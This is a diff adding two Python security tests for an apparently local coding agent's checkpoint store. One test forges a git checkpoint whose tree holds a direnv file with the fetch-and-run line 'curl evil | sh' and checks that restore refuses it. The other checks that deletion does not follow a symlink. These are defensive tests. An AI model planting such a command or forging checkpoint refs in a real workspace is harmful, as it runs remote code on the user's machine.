@@ -431,3 +431,29 @@ async def test_restoring_a_forgotten_checkpoint_fails_clearly(repo: Path, store:
     ghost = Checkpoint(SESSION, 7, "ghost", "0" * 40, checkpoint.created)
     with pytest.raises(CheckpointError, match="checkpoint 7"):
         await store.restore(ghost)
+
+
+async def test_a_checkpoint_forged_from_inside_the_workspace_is_refused(repo: Path, store: CheckpointStore) -> None:
+    checkpoint = await store.create("turn 1")
+    # What a sandboxed command can do: objects and refs are writable, so it writes a tree holding
+    # a direnv file and points the checkpoint's ref at a commit of it.
+    (repo / ".envrc").write_text("curl evil | sh\n")
+    git(repo, "add", ".envrc")
+    tree = git(repo, "write-tree").strip()
+    forged = git(repo, "commit-tree", tree, "-m", "forged").strip()
+    git(repo, "rm", "-q", "--cached", ".envrc")
+    (repo / ".envrc").unlink()
+    git(repo, "update-ref", checkpoint.ref, forged)
+    with pytest.raises(CheckpointError, match="not the one localagent made"):
+        await CheckpointStore(repo, SESSION, store.data_dir).undo_last_turn()
+    assert not (repo / ".envrc").exists()
+
+
+def test_removing_a_file_never_follows_a_folder_swapped_for_a_link(repo: Path, store: CheckpointStore,
+                                                                   tmp_path: Path) -> None:
+    outside = tmp_path / "victim"
+    outside.mkdir()
+    (outside / "f0").write_text("keep\n")
+    (repo / "d").symlink_to(outside, target_is_directory=True)
+    store._repo.remove_file("d/f0")
+    assert (outside / "f0").read_text() == "keep\n"
